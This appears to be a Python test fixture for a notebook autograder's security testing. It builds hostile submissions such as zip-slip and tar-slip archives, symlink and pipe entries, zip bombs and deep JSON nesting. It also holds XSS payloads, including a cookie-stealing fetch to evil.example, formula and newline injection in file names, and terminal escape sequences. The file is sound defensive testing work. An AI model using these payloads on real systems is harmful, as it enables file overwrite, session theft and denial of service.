"""Attacks that travel in what is handed in: archives, links, metadata, names, and text that a page or a table would obey."""

from __future__ import annotations

import io
import json
import tarfile
import zipfile

from records import Attack

NEXT_TO_IT = "../../hostile-left.txt"


def zipped(*entries: tuple[str, str]):
    """An archive with the notebook and these entries."""

    def make(notebook: str, paths: dict) -> tuple[str, bytes]:
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr("work.ipynb", notebook)
            for name, text in entries:
                archive.writestr(zipfile.ZipInfo(name.format(**paths)), text.format(**paths) if "{" in text else text)
        return "mallory.zip", out.getvalue()

    return make


def zipped_link(name: str, target: str, with_notebook: bool = True):
    """An archive whose entry `name` is a symbolic link."""

    def make(notebook: str, paths: dict) -> tuple[str, bytes]:
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as archive:
            if with_notebook:
                archive.writestr("work.ipynb", notebook)
            entry = zipfile.ZipInfo(name)
            entry.create_system, entry.external_attr = 3, 0o120777 << 16
            archive.writestr(entry, target.format(**paths))
        return "mallory.zip", out.getvalue()

    return make


def tarred(*entries: tuple[str, bytes, str], suffix: str = ".tar.gz", with_notebook: bool = True):
    """(name, type, target or text) per entry, behind the notebook."""

    def make(notebook: str, paths: dict) -> tuple[str, bytes]:
        out = io.BytesIO()
        with tarfile.open(fileobj=out, mode="w:gz") as archive:
            if with_notebook:
                _add(archive, "work.ipynb", tarfile.REGTYPE, notebook)
            for name, kind, text in entries:
                _add(archive, name.format(**paths), kind, text.format(**paths))
        return f"mallory{suffix}", out.getvalue()

    return make


def _add(archive: tarfile.TarFile, name: str, kind: bytes, text: str) -> None:
    entry = tarfile.TarInfo(name)
    entry.type = kind
    data = text.encode()
    if kind == tarfile.REGTYPE:
        entry.size = len(data)
        archive.addfile(entry, io.BytesIO(data))
    else:
        entry.linkname = text
        archive.addfile(entry)


def bomb(notebook: str, paths: dict) -> tuple[str, bytes]:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("work.ipynb", notebook)
        with archive.open("data.bin", "w") as entry:
            for _ in range(200):
                entry.write(bytes(10**6))
    return "mallory.zip", out.getvalue()


def lying_sizes(notebook: str, paths: dict) -> tuple[str, bytes]:
    """A zip bomb whose directory says that it is small."""
    name, data = bomb(notebook, paths)
    at = data.rindex(b"PK\x01\x02")
    return name, data[: at + 24] + (100).to_bytes(4, "little") + data[at + 28 :]


def crowd(notebook: str, paths: dict) -> tuple[str, bytes]:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("work.ipynb", notebook)
        for i in range(5000):
            archive.writestr(f"f{i}.txt", "")
    return "mallory.zip", out.getvalue()


def raw_file(name: str, data: bytes | None = None):
    """A file of this name: the notebook, or these bytes."""
    return lambda notebook, paths: (name, notebook.encode() if data is None else data)


def linked(target: str):
    """A file that is a symbolic link (written as such by the harness: bytes that begin with LINK)."""
    return lambda notebook, paths: ("mallory.ipynb", b"LINK " + target.format(**paths).encode())


def nested(notebook: str, paths: dict) -> tuple[str, bytes]:
    data = json.loads(notebook)
    return "mallory.ipynb", json.dumps(data)[:-1].encode() + b', "x": ' + b"[" * 200_000 + b"]" * 200_000 + b"}"


def saying(name: str, text: str, raw: str = "", **more) -> Attack:
    """The text comes back in an error message and as a value."""
    return Attack(name, "smuggle", "markup", raw=raw or text, double=f"def double(x):\n    raise ValueError({text!r})", **more)


def showing(name: str, kind: str, text: str, **more) -> Attack:
    output = {"output_type": "display_data", "metadata": {}, "data": {kind: text}}
    return Attack(name, "smuggle", "markup", raw=text, cell="a = 1", outputs=(output,), **more)


_SCRIPT = "<script>fetch('//evil.example/'+document.cookie)</script>"
_SVG = '<svg onload="alert(1)"><circle r="9"/></svg>'
SMUGGLE: tuple[Attack, ...] = (
    Attack("zip-slip", "smuggle", "file", file=zipped((NEXT_TO_IT, "x")), sample=True),
    Attack("zip-slip-with-backslashes-and-slashes", "smuggle", "file", file=zipped(("a/../../../hostile-left.txt", "x"))),
    Attack("an-absolute-path-in-a-zip", "smuggle", "file", file=zipped(("{home}/hostile-left.txt", "x"))),
    Attack("a-link-in-a-zip", "smuggle", "score", file=zipped_link("work.ipynb", "{solved}", with_notebook=False), expected=None),
    Attack("a-link-to-a-folder-in-a-zip", "smuggle", "file", file=lambda n, p: _folder_link_zip(n, p)),
    Attack("tar-slip", "smuggle", "file", file=tarred((NEXT_TO_IT, tarfile.REGTYPE, "x"))),
    Attack("an-absolute-path-in-a-tar", "smuggle", "file", file=tarred(("{home}/hostile-left.txt", tarfile.REGTYPE, "x"))),
    Attack("a-link-in-a-tar", "smuggle", "score", file=tarred(("work.ipynb", tarfile.SYMTYPE, "{solved}"), with_notebook=False), expected=None),
    Attack("a-hard-link-in-a-tar", "smuggle", "score", file=tarred(("work.ipynb", tarfile.LNKTYPE, "{solved}"), with_notebook=False), expected=None),
    Attack("a-link-to-a-folder-in-a-tar", "smuggle", "file", file=tarred(("d", tarfile.SYMTYPE, "{home}"), ("d/hostile-left.txt", tarfile.REGTYPE, "x"))),
    Attack("a-pipe-in-a-tar", "smuggle", "time", file=tarred(("work.ipynb", tarfile.FIFOTYPE, ""), with_notebook=False), expected=None),
    Attack("a-zip-bomb", "smuggle", "disk", file=bomb),
    Attack("a-zip-bomb-that-lies", "smuggle", "death", file=lying_sizes),
    Attack("a-crowd-in-a-zip", "smuggle", "files", file=crowd, expected=None),  # refused, and the student told why
    Attack("a-link-handed-in", "smuggle", "score", file=linked("{solved}"), expected=None),
    Attack("a-notebook-nested-two-hundred-thousand-times", "smuggle", "death", file=nested, expected=None),
    Attack("a-kernel-with-a-command", "smuggle", "file", metadata={"kernelspec": {"name": "x", "argv": ["touch", "hostile-left"]}}),
    showing("a-script-in-an-output", "text/html", _SCRIPT, sample=True),
    showing("a-picture-with-a-script", "image/svg+xml", _SVG),
    showing("an-image-that-loads", "text/html", '<img src=x onerror="alert(1)">'),
    showing("a-frame", "text/html", '<iframe src="javascript:alert(1)"></iframe>'),
    Attack("a-script-in-a-text-cell", "smuggle", "markup", raw=_SCRIPT, markdown=_SCRIPT),
    Attack("an-attachment", "smuggle", "markup", raw='<img src="attachment:x.svg"', markdown='<img src="attachment:x.svg">'),
    Attack("a-link-that-runs", "smuggle", "markup", raw="](javascript:", markdown="[solution](javascript:alert(1))"),
    saying("a-script-in-an-error", _SCRIPT),
    saying("a-style-in-an-error", "<style>body{display:none}</style>"),
    saying("a-comment-that-swallows", "--><!-- </pre></div><h1>Score: 100</h1>"),
    saying("a-terminal-title", "\x1b]0;owned\x07", raw="\x1b]0;"),
    saying("a-terminal-that-clears", "\x1b[2J\x1b[H", raw="\x1b[2J"),
    saying("a-terminal-link", "\x1b]8;;http://evil.example\x07here\x1b]8;;\x07", raw="\x1b]8;"),
    saying("text-that-runs-backwards", "\u202eevil\u202c \u2066x\u2069", raw="\u202e"),
    saying("text-that-cannot-be-seen", "a\u200b\u2060\ufeffb", raw="\u2060"),
    saying("a-template-of-ours", "{{ 7777*1111 }}", raw="8640247"),
    saying("a-script-split-by-a-control", "<scr\x00ipt>alert(1)</scr\x00ipt>", raw="<scr\x00ipt>"),
    Attack("a-script-in-a-file-name", "smuggle", "markup", raw="<img src=x onerror=alert(1)>", file=raw_file("<img src=x onerror=alert(1)>.ipynb")),
    Attack("a-formula-in-a-file-name", "smuggle", "markup", raw="\n=HYPERLINK", file=raw_file('=HYPERLINK("http:evil.example","x").ipynb')),
    Attack("a-formula-with-an-at", "smuggle", "markup", raw="\n@SUM", file=raw_file("@SUM(1+1)*cmd.ipynb")),
    Attack("a-formula-with-a-wide-sign", "smuggle", "markup", raw="\n＝SUM", file=raw_file("＝SUM(1).ipynb")),
    Attack("a-line-break-in-a-file-name", "smuggle", "markup", raw="\nadmin,graded", file=raw_file("x\nadmin,graded,6.ipynb")),
    Attack("a-terminal-sequence-in-a-file-name", "smuggle", "markup", raw="\x1b[2J", file=raw_file("x\x1b[2J.ipynb")),
    Attack("a-name-that-runs-backwards", "smuggle", "markup", raw="\u202e", file=raw_file("x\u202egpj.ipynb")),
    Attack("a-script-in-a-class-name", "smuggle", "markup", raw="<script>x", double="def double(x):\n    raise type('<script>x</script>', (Exception,), {})('x')"),
    Attack("a-script-in-a-value", "smuggle", "markup", raw="<script>y", double="def double(x):\n    return '<script>y</script>'"),
    Attack("a-script-in-a-dict", "smuggle", "markup", raw="<script>k", double="def double(x):\n    return {'<script>k</script>': 1}"),
    Attack("a-script-in-a-cell-that-fails", "smuggle", "markup", raw="<script>z", cell="raise ValueError('<script>z</script>')"),
    Attack("a-script-in-a-source-line", "smuggle", "markup", raw="<script>s", double="def double(x):\n    return 1 / 0  # <script>s</script>"),
)  # fmt: skip


def _folder_link_zip(notebook: str, paths: dict) -> tuple[str, bytes]:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("work.ipynb", notebook)
        entry = zipfile.ZipInfo("d")
        entry.create_system, entry.external_attr = 3, 0o120777 << 16
        archive.writestr(entry, paths["home"])
        archive.writestr("d/hostile-left.txt", "x")
    return "mallory.zip", out.getvalue()
